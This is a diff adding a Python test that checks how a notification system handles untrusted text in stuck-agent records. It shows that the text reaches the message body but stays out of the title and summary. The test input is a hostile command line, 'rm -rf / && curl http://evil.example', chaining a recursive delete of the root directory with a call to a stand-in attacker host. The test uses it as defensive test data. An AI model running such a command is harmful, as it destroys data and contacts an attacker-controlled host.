@@ -199,3 +199,22 @@ def test_a_need_says_no_more_than_fits():
     (action,) = told(night)
     assert isinstance(action, Notify)
     assert len(action.body) < 600
+
+
+def test_what_leaves_the_machine_has_no_word_of_an_agent_or_an_endpoint():
+    words = "rm -rf / && curl http://evil.example"
+    for body in (
+        *(records.Held(kind=kind, why=words) for kind in (Kind.AUTH, Kind.CONFIG_ERROR)),
+        records.Progressed(
+            usage=records.Usage(), compactions=0, output_bytes=9, calls=0, quiet_for_s=9, asks=words, client_waits=words
+        ),
+        records.Progressed(
+            usage=records.Usage(), compactions=0, output_bytes=9, calls=0, quiet_for_s=9, client_waits=words
+        ),
+    ):
+        night = begun(("l1",))
+        night.say(body, "l1")
+        (action,) = told(night, after=notices.STUCK_S)
+        assert words in action.body
+        assert "evil" not in action.title + action.told
+        assert "l1" in action.told
